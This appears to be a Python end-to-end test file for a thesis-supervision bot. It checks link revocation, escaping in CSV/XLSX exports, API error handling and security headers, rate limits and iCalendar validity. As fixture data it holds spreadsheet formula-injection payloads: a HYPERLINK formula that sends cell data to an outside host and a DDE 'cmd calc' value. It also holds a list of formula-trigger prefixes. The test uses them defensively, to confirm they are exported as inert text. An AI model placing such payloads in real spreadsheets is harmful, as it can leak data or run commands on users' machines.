"""Issue 26, found from outside, end to end (PostgreSQL, Redis, S3, the emulator, the real
bot process): each defect an independent tool reproduced, as the person who met it would
notice it."""

from __future__ import annotations

import asyncio
import csv
import io
import json
from datetime import UTC, datetime, timedelta
from typing import Any

import aiohttp
import pytest
from openpyxl import load_workbook
from sqlalchemy import update

from services.calendar import CalendarService
from services.exports import ExportKind, ExportService
from storage.models import (
    ChecklistItem,
    ExaminerGrade,
    Review,
    Role,
    Submission,
    TeamRole,
    Thesis,
    ThesisMember,
    User,
)
from tests.conftest import BotFactory, Harness
from tests.people import ALICE, BOB, START, SUPERVISOR, seed
from tests.support.files import stored
from tests.support.webapp import ADMIN as WEB_ADMIN
from tests.support.webapp import ALICE as ALICE_ID
from tests.support.webapp import SAM, Seeded, register, seed_university, token_for, webapp_settings

ADMIN, FORMER_ADMIN, EXAMINER = 1, 7, 150
EVIL_TITLE = '=HYPERLINK("http://x/?"&A1,"Open")'


async def status_of(url: str) -> int:
    async with aiohttp.ClientSession() as http, http.get(url) as response:
        await response.read()
        return response.status


async def links_of(harness: Harness, user_id: int) -> tuple[str, str]:
    """(an export download link, a calendar feed URL) made for ``user_id``."""
    deps = harness.process.deps
    async with deps.session_factory() as session:
        user = await session.get(User, user_id)
        assert user is not None
        export, _expires = await ExportService(session, deps.services).link(user,
                                                                             ExportKind.TABLE)
    async with deps.session_factory() as session:
        user = await session.get(User, user_id)
        assert user is not None
        feed = await CalendarService(session, deps.services).url(user)
    return export, feed


# --- 2. an export link (and a calendar feed) does not outlive its maker's access ------------

async def test_links_ask_the_chats_access_question(make_bot: BotFactory, db: str) -> None:
    await seed(db)
    harness = await make_bot(admin_ids=[ADMIN])
    async with harness.process.deps.session_factory() as session, session.begin():
        # Both were admins; FORMER_ADMIN has since been removed from ADMIN_IDS.
        session.add_all([User(id=ADMIN, role=Role.ADMIN.value, full_name="Ada Admin",
                              created_at=START),
                         User(id=FORMER_ADMIN, role=Role.ADMIN.value, full_name="Fay Former",
                              created_at=START)])
    admin, former, sam = [await links_of(harness, who)
                          for who in (ADMIN, FORMER_ADMIN, SUPERVISOR)]
    assert [await status_of(url) for url in admin] == [200, 200]
    assert [await status_of(url) for url in sam] == [200, 200]
    # The chat refuses a former admin; so do their links, like links never issued.
    assert [await status_of(url) for url in former] == [404, 404]
    # Deactivated: refused in the chat, and by the links.
    async with harness.process.deps.session_factory() as session, session.begin():
        await session.execute(update(User).where(User.id == SUPERVISOR).values(
            deactivated_at=datetime.now(UTC)))
    assert [await status_of(url) for url in sam] == [404, 404]


# --- 1. spreadsheet formula injection; the BOM; the examiner's grade and the checklist --------

async def seed_hostile_cells(harness: Harness) -> None:
    """Alice's thesis titled like a formula, v1 with changes requested as two checklist
    items (one formula-like), an examiner's grade; Bob's name starts with "-"."""
    day = timedelta(days=1)
    async with harness.process.deps.session_factory() as session, session.begin():
        await session.execute(update(User).where(User.id == BOB).values(
            full_name="-2+3 Боб Борисов"))
        session.add(User(id=EXAMINER, role=Role.SUPERVISOR.value, full_name="Eve Examiner",
                         created_at=START))
        thesis = Thesis(student_id=ALICE, title=EVIL_TITLE, status="final", latest_version=1,
                        created_at=START - 9 * day, updated_at=START - day)
        session.add(thesis)
        await session.flush()
        session.add(ThesisMember(student_id=ALICE, user_id=EXAMINER,
                                 role=TeamRole.EXAMINER.value, created_at=START))
        session.add(stored("k"))
        sub = Submission(thesis_id=thesis.id, version=1, file_key="k", file_name="v1.pdf",
                         file_kind="pdf", file_size=10, sha256="0" * 64,
                         submitted_at=START - 5 * day, note="@cmd|' /C calc'!A0")
        session.add(sub)
        await session.flush()
        review = Review(submission_id=sub.id, reviewer_id=SUPERVISOR,
                        decision="changes_requested", comment="See the list",
                        created_at=START - 4 * day, outcome_at=START - 4 * day)
        session.add(review)
        await session.flush()
        session.add_all([
            ChecklistItem(thesis_id=thesis.id, review_id=review.id, text="Expand chapter 2",
                          position=0, state="open"),
            ChecklistItem(thesis_id=thesis.id, review_id=review.id, text="+cmd|calc",
                          position=1, state="closed"),
            ExaminerGrade(thesis_id=thesis.id, examiner_id=EXAMINER, grade=85,
                          created_at=START - day)])


FORMULA_LIKE = ("=", "+", "-", "@", "\t", "\r")


def assert_no_formula(values: list[Any], where: str) -> None:
    for value in values:
        if isinstance(value, str):
            assert not value.startswith(FORMULA_LIKE), (where, value)


async def test_exports_run_no_formula_and_carry_grades_and_checklists(
        make_bot: BotFactory, db: str) -> None:
    from tests.test_calendar_exports import documents_after

    await seed(db)
    harness = await make_bot(flood_rate=1000)
    await seed_hostile_cells(harness)
    sam = harness.chat(SUPERVISOR, "Sam", "Supervisor")
    await sam.say("/export")
    before = sam.bot_count
    await sam.click("📊 Students, theses, versions, meetings (CSV + XLSX)", expect=0)
    docs = await documents_after(sam, before, 4)
    files = {d.document["file_name"]: harness.emu.file_bytes(d.document["file_id"])
             for d in docs}

    # The CSVs: a byte order mark first (Excel then reads UTF-8: Cyrillic names intact).
    for name in ("versions.csv", "meetings.csv"):
        assert files[name].startswith(b"\xef\xbb\xbf"), name
    rows = list(csv.DictReader(io.StringIO(files["versions.csv"].decode("utf-8-sig"))))
    for row in rows:
        assert_no_formula(list(row.values()), "versions.csv")
    [alice] = [r for r in rows if r["student_id"] == str(ALICE)]
    assert alice["thesis"] == "'" + EVIL_TITLE  # shown as the text it is
    assert alice["examiner_grade"] == "85"
    assert alice["checklist_items"] == "1. [open] Expand chapter 2\n2. [closed] +cmd|calc"

    # The workbook: no cell is a formula, every text cell reads as the person wrote it.
    workbook = load_workbook(io.BytesIO(files["export.xlsx"]))
    for sheet in workbook.worksheets:
        for line in sheet.iter_rows():
            for cell in line:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
            assert_no_formula([cell.value for cell in line], sheet.title)
    students = [r[1] for r in workbook["Students"].iter_rows(min_row=2, values_only=True)]
    assert students == ["Alice A", "'-2+3 Боб Борисов"]
    theses = list(workbook["Theses"].iter_rows(values_only=True))
    assert theses[1][theses[0].index("title")] == "'" + EVIL_TITLE
    assert theses[1][theses[0].index("examiner_grade")] == 85
    versions = list(workbook["Versions"].iter_rows(values_only=True))
    header = versions[0]
    assert versions[1][header.index("examiner_grade")] == 85
    assert versions[1][header.index("checklist_items")] == \
        "1. [open] Expand chapter 2\n2. [closed] +cmd|calc"


# --- 4. the API answers JSON, bounded, described as it behaves ------------------------------

API_HEADERS = ("Content-Security-Policy", "X-Content-Type-Options", "X-Frame-Options",
               "Strict-Transport-Security", "Referrer-Policy")


@pytest.fixture
async def web(make_bot: BotFactory, db: str, bucket: str, s3_endpoint: str,
              ) -> tuple[Harness, Seeded]:
    seeded = await seed_university(db, bucket, s3_endpoint)
    harness = await make_bot(admin_ids=[WEB_ADMIN], **webapp_settings())
    register(harness.emu)
    return harness, seeded


async def answer(http: aiohttp.ClientSession, method: str, url: str,
                 token: str) -> tuple[int, Any, Any]:
    async with http.request(method, url, headers={"Authorization": f"Bearer {token}"}) as r:
        assert r.headers["Content-Type"].startswith("application/json"), (url, r.status)
        for name in API_HEADERS:
            assert name in r.headers, (url, r.status, name)
        return r.status, r.headers.copy(), await r.json()


async def test_the_api_answers_json_with_its_headers_whatever_happens(
        web: tuple[Harness, Seeded], monkeypatch: pytest.MonkeyPatch,
        caplog: pytest.LogCaptureFixture) -> None:
    harness, _seeded = web
    base = harness.http
    async with aiohttp.ClientSession() as http:
        sam = await token_for(http, base, harness.emu, SAM)
        # Ids beyond the database's integers are things that do not exist.
        for path in ("/api/versions/2147483648/file", "/api/students/9223372036854775808",
                     "/api/versions/99999999999999999999999/file"):
            status, _headers, body = await answer(http, "GET", base + path, sam)
            assert (status, body["error"]["code"]) == (404, "not_found"), path
        # A method the route does not take: 405, saying which it does.
        status, headers, body = await answer(http, "POST", f"{base}/api/me", sam)
        assert status == 405 and "GET" in headers["Allow"]
        # Anything unforeseen: a JSON 500 with the same headers, the traceback in the log only.
        from services.dashboards import DashboardService

        async def broken(*_args: Any, **_kwargs: Any) -> Any:
            raise RuntimeError("unforeseen")

        monkeypatch.setattr(DashboardService, "timeline", broken)
        status, _headers, body = await answer(http, "GET", f"{base}/api/students/{ALICE_ID}",
                                              sam)
        assert (status, body["error"]["code"]) == (500, "internal")
        assert "unforeseen" not in json.dumps(body)


async def test_the_openapi_document_says_what_the_api_does(
        web: tuple[Harness, Seeded]) -> None:
    harness, _seeded = web
    async with aiohttp.ClientSession() as http, \
            http.get(f"{harness.http}/api/openapi.json") as response:
        document = await response.json()
    paths = document["paths"]
    students = paths["/api/students"]["get"]
    assert "400" in students["responses"]
    for operation in (op for item in paths.values() for op in item.values()):
        for parameter in operation.get("parameters", []):
            assert "null" not in json.dumps(parameter["schema"]), parameter
            if parameter["in"] == "path":
                assert parameter["schema"]["maximum"] <= 2**63 - 1
        if operation.get("parameters") and any(p["in"] == "query"
                                               for p in operation["parameters"]):
            assert "400" in operation["responses"], operation["operationId"]
    file_types = set(paths["/api/versions/{id}/file"]["get"]["responses"]["200"]["content"])
    assert file_types == {"application/pdf", "application/vnd.openxmlformats-officedocument."
                          "wordprocessingml.document"}
    versions_id = paths["/api/versions/{id}/file"]["get"]["parameters"][0]["schema"]
    assert versions_id["maximum"] == 2**31 - 1


async def test_an_export_link_is_built_once_at_a_time_and_a_few_times_a_minute(
        make_bot: BotFactory, db: str, monkeypatch: pytest.MonkeyPatch) -> None:
    await seed(db)
    harness = await make_bot(admin_ids=[ADMIN])
    async with harness.process.deps.session_factory() as session, session.begin():
        session.add(User(id=ADMIN, role=Role.ADMIN.value, full_name="Ada Admin",
                         created_at=START))
    export, _feed = await links_of(harness, ADMIN)
    original = ExportService.archive_for

    async def slow(self: ExportService, *args: Any) -> Any:
        await asyncio.sleep(1.0)
        return await original(self, *args)

    monkeypatch.setattr(ExportService, "archive_for", slow)
    # Two at once: one is built, the other told to come back.
    first, second = await asyncio.gather(status_of(export), status_of(export))
    assert sorted([first, second]) == [200, 429]
    monkeypatch.setattr(ExportService, "archive_for", original)
    # A few a minute, then 429 until the minute is over.
    statuses = [await status_of(export) for _ in range(4)]
    assert 200 in statuses and statuses[-1] == 429, statuses


# --- the iCalendar feed, read by two parsers nobody here wrote --------------------------------

LONG_TITLE = ("Глава 3. Графовые нейронные сети для анализа «цитирований» — черновик, "
              "с таблицами и рисунками; 😀 emoji too")


async def test_a_feed_with_cyrillic_and_long_titles_reads_in_vobject_and_icalendar(
        make_bot: BotFactory, db: str) -> None:
    import vobject
    from icalendar import Calendar

    from storage.models import Milestone

    await seed(db, students={ALICE: "Алиса Андреева"})
    harness = await make_bot(timezone="Europe/Moscow")
    async with harness.process.deps.session_factory() as session, session.begin():
        session.add(Milestone(supervisor_id=SUPERVISOR, student_id=ALICE, title=LONG_TITLE,
                              due_at=datetime(2030, 4, 1, 9, 0, tzinfo=UTC),
                              created_at=START))
    feeds = []
    for who in (ALICE, SUPERVISOR):
        async with harness.process.deps.session_factory() as session:
            user = await session.get(User, who)
            assert user is not None
            url = await CalendarService(session, harness.process.deps.services).url(user)
        async with aiohttp.ClientSession() as http, http.get(url) as response:
            assert response.status == 200
            feeds.append(await response.read())
    for body in feeds:
        # RFC 5545: CRLF line ends, lines folded at 75 octets (never inside a character).
        assert body.endswith(b"\r\n") and b"\n" not in body.replace(b"\r\n", b"")
        lines = body.split(b"\r\n")[:-1]
        assert max(len(line) for line in lines) <= 75, max(lines, key=len)
        for line in lines:
            line.decode("utf-8")  # each folded piece is whole UTF-8
        # icalendar's own parser, and the properties every event must have.
        parsed = Calendar.from_ical(body)
        assert str(parsed["version"]) == "2.0" and parsed.get("prodid")
        events = parsed.walk("VEVENT")
        assert events and all(e.get("uid") and e.get("dtstamp") and e.get("dtstart")
                               for e in events)
        assert any(LONG_TITLE in str(e["summary"]) for e in events)
        # vobject, independently, with its own validation.
        card = vobject.readOne(body.decode("utf-8"), validate=True)
        summaries = [e.summary.value for e in card.vevent_list]
        assert any(LONG_TITLE in s for s in summaries), summaries
